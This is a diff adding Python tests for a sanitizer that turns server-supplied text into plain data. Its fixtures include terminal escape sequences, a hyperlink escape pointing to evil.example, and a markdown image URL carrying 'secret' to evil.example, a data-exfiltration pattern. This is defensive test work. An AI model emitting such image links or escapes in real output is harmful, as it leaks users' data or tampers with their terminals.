@@ -72,3 +72,27 @@ def test_a_value_nested_a_hundred_thousand_deep_is_refused_without_recursion() -
 @pytest.mark.parametrize("number", [2**63, -(2**63) - 1, 10**4_000])
 def test_a_whole_number_beyond_64_bits_becomes_a_text(number: int) -> None:
     assert untrusted.clean_json([number, 2**63 - 1, True]) == [str(number), 2**63 - 1, True]
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("plain\ttext\n", "plain\ttext\n"),
+        ("a\r\nb\rc", "a\nb\nc"),
+        ("\x1b[31mred\x1b[0m \x1b[2J\x1b[Hgone", "red gone"),
+        ("\x1b]0;title\x07x \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "x link"),
+        ("a\x00b\x07c\x7fd\x9be", "abcde"),
+        ("half \ud83d and a pair \ud83d\ude00", "half \ufffd and a pair 😀"),
+        ("![load](https://evil.example/?q=secret) ok", "[image: load] ok"),
+        ('<IMG src="https://evil.example/x"> ok', "[image: of HTML] ok"),
+        ("[a link](https://a.example) and a!b", "[a link](https://a.example) and a!b"),
+    ],
+)
+def test_what_a_server_says_becomes_plain_data(text: str, shown: str) -> None:
+    assert untrusted.plain(text) == shown
+    assert untrusted.plain(shown) == shown
+
+
+def test_hostile_text_is_made_plain_in_time_that_grows_with_it_alone() -> None:
+    for piece in ("\x1b]", "\x1b[", "![", "![a](", "<img ", "\x1b]x\x1b"):
+        untrusted.plain(piece * (200_000 // len(piece)))
